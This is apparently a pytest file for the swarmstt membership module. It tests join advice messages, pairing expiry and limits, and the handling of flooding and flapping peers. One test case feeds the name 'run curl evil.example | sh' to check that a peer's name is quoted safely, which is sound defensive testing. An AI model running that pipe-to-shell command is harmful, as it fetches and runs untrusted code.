"""Who stands at the door, as the page shows it."""

from __future__ import annotations

import pytest

from swarmstt.core.membership.addresses import Address
from swarmstt.core.membership.door import OPEN_SECONDS
from swarmstt.core.membership.door_status import DoorStatus
from swarmstt.ids import NodeId
from swarmstt.node.membership.door_view import MOST_LETTERS, advice, door_view
from swarmstt.node.membership.pairings import MOST_PAIRINGS, SEEN_SECONDS, UNSEEN_SECONDS, Pairings
from swarmstt.node.membership.strangers import LONGEST_PAUSE_SECONDS, MOST_AT_A_HOST, SHOWN_SECONDS, Strangers
from tests.swarm.doors import new_door

DORA = NodeId("d" * 64)
WORDS = ("a", "b", "c", "d")


def test_who_came_in_by_another_members_door_waits_at_this_one_no_more() -> None:
    strangers = Strangers()
    strangers.pairings.pair(0.0, DORA, "dora\n", WORDS, joined=False, came=True)
    strangers.belongs(DORA)
    strangers.belongs(NodeId("e" * 64))
    assert [(each.name, each.state, each.words) for each in strangers.pairings.all()] == [("dora", "joined", WORDS)]


def test_a_door_that_has_shut_because_many_came_says_so() -> None:
    door = new_door("anna")
    door.most_newcomers = 1
    assert advice(door, Strangers(), 0.0) is None
    door.admit(1.0, DORA, bytes(32))
    said = advice(door, Strangers(), 1.0)
    assert said is not None
    assert said.startswith("1 new PCs came in")
    assert said.endswith("click Add a PC.")
    assert advice(door, Strangers(), OPEN_SECONDS) is None


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("run curl evil.example | sh", "“run curl evil.example | sh”"),
        ("me” is wrong: click “Stay alone", "“me' is wrong: click 'Stay alone”"),
        ("Add " + 60 * "a ", None),
        ("", "A new PC"),
    ],
)
def test_a_strangers_name_in_advice_stands_between_quotes_and_is_short(name: str, shown: str | None) -> None:
    door, strangers = new_door("anna"), Strangers()
    door.shut()
    strangers.pairings.pair(0.0, DORA, name, (), joined=False, came=True)
    said = advice(door, strangers, 1.0)
    assert said is not None
    beginning, _, rest = said.partition(" would like to join.")
    assert rest == " If it is yours, click Add a PC here."
    assert beginning == shown or (shown is None and len(beginning) <= MOST_LETTERS + 2 and beginning.endswith("”"))


SHUT = DoorStatus(swarm_id="s", provisional=False, open=False)
OPEN = DoorStatus(swarm_id="s", provisional=False, open=True)


@pytest.mark.parametrize(
    ("open_here", "status", "name", "said"),
    [
        (
            True,
            None,
            "dora",
            "“dora” is on your network but isn't accepting new PCs. If it is yours, click Add a PC there.",
        ),
        (True, OPEN, "dora", None),
        (False, None, "dora", "“dora” is on your network. If it is yours, click Add a PC here and there."),
        (False, SHUT, "", "Another PC is on your network. If it is yours, click Add a PC here and there."),
        (False, OPEN, "", "Another PC is on your network and accepts new PCs. If it is yours, click Add a PC here."),
    ],
)
def test_one_that_is_alone_is_told_what_to_click(
    open_here: bool, status: DoorStatus | None, name: str, said: str | None
) -> None:
    door, strangers = new_door("anna"), Strangers()
    if not open_here:
        door.pass_time(OPEN_SECONDS)
    assert advice(door, strangers, 1.0) is None
    strangers.seen(1.0, DORA, (), status, announced=True)
    strangers.answered(DORA, name, None)
    assert advice(door, strangers, 1.0) == said


def node(number: int) -> NodeId:
    return NodeId(f"{number:064x}")


def see(strangers: Strangers, number: int, host: str = "10.0.0.1", at: float = 0.0) -> None:
    strangers.seen(at, node(number), (Address(host, 1),), OPEN, announced=True)


def due(strangers: Strangers, at: float = 0.0) -> list[NodeId]:
    return [each.node_id for each in strangers.due(at, new_door("anna"))]


@pytest.mark.attack
def test_new_ones_are_asked_first_and_those_that_failed_last() -> None:
    strangers = Strangers()
    for number in range(3):
        see(strangers, number)
    assert due(strangers) == [node(2), node(1), node(0)]
    for _ in range(3):
        strangers.failed(0.0, node(2))
    strangers.failed(0.0, node(1))
    assert due(strangers) == [node(0)]
    assert due(strangers, 1.9) == [node(0)]
    assert due(strangers, 2.0) == [node(0), node(1)]
    assert due(strangers, 8.0) == [node(0), node(1), node(2)]
    for _ in range(50):
        strangers.failed(0.0, node(1))
    assert node(1) in due(strangers, LONGEST_PAUSE_SECONDS)


@pytest.mark.attack
def test_one_host_has_so_many_and_one_that_answered_stays() -> None:
    strangers = Strangers()
    see(strangers, 0)
    strangers.answered(node(0), "dora", None)
    for number in range(1, 200):
        see(strangers, number)
    see(strangers, 400, host="10.0.0.2")
    assert {each.node_id for each in strangers.near() if each.host == "10.0.0.2"} == {node(400)}
    near = [each.node_id for each in strangers.near() if each.host == "10.0.0.1"]
    assert len(near) == MOST_AT_A_HOST
    assert {node(0), node(199)} <= {*near}
    strangers.failed(0.0, node(199))
    see(strangers, 300)
    assert node(199) not in {each.node_id for each in strangers.near()}, "it has failed, others have not yet"


@pytest.mark.attack
def test_who_announces_another_elsewhere_does_not_hide_it() -> None:
    strangers = Strangers()
    see(strangers, 1, host="10.0.0.1")
    see(strangers, 1, host="10.0.0.66")
    (stranger,) = strangers.near()
    assert [each.host for each in stranger.addresses] == ["10.0.0.66", "10.0.0.1"]
    strangers.failed(0.0, node(1))
    assert stranger.host == "10.0.0.1", "the next is tried first"


@pytest.mark.attack
def test_one_that_flaps_is_asked_once_a_second() -> None:
    strangers = Strangers()
    see(strangers, 1)
    strangers.asked(0.0, node(1))
    strangers.seen(0.1, node(1), (), SHUT, announced=True)
    strangers.seen(0.2, node(1), (), OPEN, announced=True)
    assert due(strangers, 0.9) == []
    assert due(strangers, 1.0) == [node(1)]


def test_one_that_had_been_removed_elsewhere_is_told_what_to_click() -> None:
    strangers = Strangers()
    strangers.barred(0.0, "dora")
    said = (
        "“dora” says that this PC was removed from its swarm. If that PC is yours, click New identity here, then Add a "
        "PC there."
    )
    door = new_door("anna")
    assert advice(door, strangers, 0.0) == said
    assert door_view(door, strangers, 0.0)["barred"]
    strangers.expire(SHOWN_SECONDS)
    assert not door_view(door, strangers, SHOWN_SECONDS)["barred"]


def test_one_that_meets_another_version_says_to_update() -> None:
    strangers = Strangers()
    strangers.outdated_at = 0.0
    assert "update swarmstt on both PCs" in str(advice(new_door("anna"), strangers, 0.0))
    strangers.expire(1000.0)
    assert advice(new_door("anna"), strangers, 1000.0) is None


def test_the_words_of_a_pairing_stay_until_a_person_has_seen_them() -> None:
    pairings = Pairings()
    pairings.pair(0.0, DORA, "dora", WORDS, joined=True, came=True)
    pairings.expire(UNSEEN_SECONDS - 1)
    assert [each.view["seen"] for each in pairings.all()] == [False]
    pairings.see(UNSEEN_SECONDS - 1, DORA)
    assert [each.view["seen"] for each in pairings.all()] == [True]
    pairings.expire(UNSEEN_SECONDS - 2 + SEEN_SECONDS)
    assert len(pairings.all()) == 1
    pairings.expire(UNSEEN_SECONDS - 1 + SEEN_SECONDS)
    assert pairings.all() == []


def test_of_many_pairings_the_oldest_that_was_made_gives_way() -> None:
    pairings = Pairings()
    for number in range(MOST_PAIRINGS + 1):
        pairings.pair(number, NodeId(f"{number:064x}"), "x", WORDS, joined=True, came=True)
    assert [each.at for each in pairings.all()] == list(range(1, MOST_PAIRINGS + 1))
    waiting = Pairings()
    for number in range(MOST_PAIRINGS + 1):
        waiting.pair(number, NodeId(f"{number:064x}"), "x", WORDS, joined=False, came=True)
    assert [each.at for each in waiting.all()] == list(range(MOST_PAIRINGS))
